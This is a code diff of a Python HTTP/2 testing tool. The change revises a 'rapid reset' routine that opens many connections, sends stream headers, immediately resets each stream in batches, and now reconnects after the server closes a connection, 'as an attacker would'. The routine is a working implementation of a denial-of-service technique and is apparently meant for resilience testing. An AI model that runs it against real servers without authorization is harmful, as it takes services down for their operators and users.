@@ -719,61 +719,65 @@ def cmd_fd_flood(args):
 
 def cmd_rapid_reset(args):
     headers = request_headers(args.host, args.port, "/no.such.Service/Reset")
-    conns = []
-    for _ in range(args.connections):
+
+    def connect():
         try:
             sock, conn = h2_connect(args.host, args.port)
-            conns.append({"sock": sock, "conn": conn, "closed": None, "sent": 0})
+            return {"sock": sock, "conn": conn, "closed": None}
         except OSError as error:
-            conns.append({"sock": None, "conn": None, "closed": str(error), "sent": 0})
+            return {"sock": None, "conn": None, "closed": "connect: %s" % error}
+
+    conns = [connect() for _ in range(args.connections)]
+    ends = {}
     start = time.monotonic()
-    sent = 0
+    sent = reconnects = 0
     while sent < args.streams and time.monotonic() - start < args.seconds:
-        live = [c for c in conns if c["closed"] is None]
-        if not live:
-            break
-        for c in live:
-            conn = c["conn"]
+        for i, c in enumerate(conns):
+            if c["closed"] is not None:
+                # The server (or a proxy) ended it: note how, and come back
+                # on a new connection, as an attacker would.
+                ends[c["closed"]] = ends.get(c["closed"], 0) + 1
+                if c["sock"] is not None:
+                    c["sock"].close()
+                conns[i] = c = connect()
+                reconnects += 1
+                if c["closed"] is not None:
+                    time.sleep(0.01)
+                    continue
+            conn, sock = c["conn"], c["sock"]
             try:
                 for _ in range(args.batch):
                     stream_id = conn.get_next_available_stream_id()
                     conn.send_headers(stream_id, headers)
                     conn.reset_stream(stream_id)
-                c["sent"] += args.batch
                 sent += args.batch
-                data = conn.data_to_send()
-                c["sock"].setblocking(True)
-                c["sock"].settimeout(5)
-                c["sock"].sendall(data)
-                c["sock"].setblocking(False)
-                while True:
+                sock.settimeout(5)
+                sock.sendall(conn.data_to_send())
+                sock.setblocking(False)
+                while c["closed"] is None:
                     try:
-                        got = c["sock"].recv(1 << 16)
+                        got = sock.recv(1 << 16)
                     except BlockingIOError:
                         break
                     if not got:
                         c["closed"] = "EOF"
                         break
-                    try:
-                        for event in conn.receive_data(got):
-                            if isinstance(event, h2.events.ConnectionTerminated):
-                                c["closed"] = "GOAWAY %s" % getattr(
-                                    event.error_code, "name", event.error_code)
-                    except h2.exceptions.ProtocolError as error:
-                        c["closed"] = "protocol error: %s" % error
-                        break
+                    for event in conn.receive_data(got):
+                        if isinstance(event, h2.events.ConnectionTerminated):
+                            c["closed"] = "GOAWAY %s" % getattr(
+                                event.error_code, "name", event.error_code)
+                sock.sendall(conn.data_to_send())
             except (OSError, h2.exceptions.H2Error) as error:
-                c["closed"] = "%s: %s" % (type(error).__name__, error)
+                c["closed"] = type(error).__name__
     took = time.monotonic() - start
-    ends = {}
     for c in conns:
-        key = c["closed"] or "open"
+        key = c["closed"] or "open at the end"
         ends[key] = ends.get(key, 0) + 1
         if c["sock"] is not None:
             c["sock"].close()
     print(json.dumps({"mode": "rapid_reset", "streams": sent, "s": round(took, 2),
                       "streams_per_s": round(sent / took) if took else None,
-                      "connections": ends}))
+                      "reconnects": reconnects, "connection_ends": ends}))
 
 
 def main(argv):
